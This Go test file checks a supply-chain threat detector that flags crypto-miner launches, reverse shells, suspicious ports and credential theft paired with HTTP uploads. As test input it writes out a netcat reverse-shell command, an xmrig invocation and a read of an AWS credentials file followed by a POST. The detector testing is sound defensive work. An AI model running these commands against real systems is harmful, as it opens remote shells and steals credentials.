package pattern

import (
	"testing"

	"github.com/bb1nfosec/bheeshma/pkg/signal"
)

func sig(t *testing.T, typ signal.Type, pkg signal.Identity, md signal.Metadata) signal.Signal {
	t.Helper()
	return signal.New(typ, pkg, md, nil)
}

func TestCryptoMinerProcessDetected(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "evil-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.ShellExec, pkg, signal.Metadata{Command: "xmrig --url pool", Operation: "run"}),
	}
	result := a.Analyze(signals, AllEnabled())
	if !hasKind(result.Findings, KindCryptoMinerProcess) {
		t.Fatalf("expected CryptoMinerProcess finding, got %+v", result.Findings)
	}
	if result.HighestSeverity != SeverityCritical {
		t.Fatalf("expected critical summary, got %v", result.HighestSeverity)
	}
}

func TestBackdoorReverseShellDetected(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "shady-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.ShellExec, pkg, signal.Metadata{Command: "nc -e /bin/sh 10.0.0.1 4444", Operation: "run"}),
	}
	result := a.Analyze(signals, AllEnabled())
	if !hasKind(result.Findings, KindBackdoorReverseShell) {
		t.Fatalf("expected BackdoorReverseShell finding, got %+v", result.Findings)
	}
}

func TestCorrelatedExfiltrationScenario(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "exfil-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.FsRead, pkg, signal.Metadata{Path: "/home/user/.aws/credentials", Operation: "readFile"}),
		sig(t, signal.HttpRequest, pkg, signal.Metadata{URL: "http://example.com/upload", Method: "POST", Host: "example.com"}),
	}
	result := a.Analyze(signals, AllEnabled())
	if !hasKind(result.Findings, KindSensitiveFilePlusHTTP) {
		t.Fatalf("expected SensitiveFilePlusHttp finding, got %+v", result.Findings)
	}
	if result.HighestSeverity != SeverityCritical {
		t.Fatalf("expected overall severity critical, got %v", result.HighestSeverity)
	}
}

func TestNoFindingsYieldsNoneSeverity(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "benign-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.EnvAccess, pkg, signal.Metadata{Variable: "NODE_ENV"}),
	}
	result := a.Analyze(signals, AllEnabled())
	if result.TotalFindings != 0 {
		t.Fatalf("expected no findings, got %+v", result.Findings)
	}
	if result.HighestSeverity != SeverityNone {
		t.Fatalf("expected none severity, got %v", result.HighestSeverity)
	}
}

func TestDisabledDetectorGroupSuppressesFindings(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "evil-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.ShellExec, pkg, signal.Metadata{Command: "xmrig --url pool", Operation: "run"}),
	}
	cfg := Config{CryptoMiner: false, Backdoor: false, DataExfiltration: true, CredentialTheft: true}
	result := a.Analyze(signals, cfg)
	if hasKind(result.Findings, KindCryptoMinerProcess) {
		t.Fatalf("expected CryptoMinerProcess suppressed when CryptoMiner disabled, got %+v", result.Findings)
	}
}

func TestDisabledDetectorGroupDoesNotLeakAcrossSharedCategory(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "evil-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.ShellExec, pkg, signal.Metadata{Command: "xmrig --url pool", Operation: "run"}),
		sig(t, signal.ShellExec, pkg, signal.Metadata{Command: "nc -e /bin/sh 10.0.0.1 4444", Operation: "run"}),
	}
	cfg := Config{CryptoMiner: true, Backdoor: false, DataExfiltration: false, CredentialTheft: false}
	result := a.Analyze(signals, cfg)
	if !hasKind(result.Findings, KindCryptoMinerProcess) {
		t.Fatalf("expected CryptoMinerProcess finding with CryptoMiner enabled, got %+v", result.Findings)
	}
	if hasKind(result.Findings, KindBackdoorReverseShell) {
		t.Fatalf("expected BackdoorReverseShell suppressed when Backdoor disabled despite sharing the shellexec category, got %+v", result.Findings)
	}
}

func TestBackdoorSuspiciousPort(t *testing.T) {
	a, err := NewAnalyzer()
	if err != nil {
		t.Fatalf("NewAnalyzer: %v", err)
	}
	pkg := signal.Identity{Name: "net-lib", Version: "v1"}
	signals := []signal.Signal{
		sig(t, signal.NetConnect, pkg, signal.Metadata{Host: "10.0.0.5", Port: 4444, Protocol: "tcp"}),
	}
	result := a.Analyze(signals, AllEnabled())
	if !hasKind(result.Findings, KindBackdoorSuspiciousPort) {
		t.Fatalf("expected BackdoorSuspiciousPort finding, got %+v", result.Findings)
	}
}

func hasKind(findings []ThreatFinding, kind Kind) bool {
	for _, f := range findings {
		if f.Kind == kind {
			return true
		}
	}
	return false
}
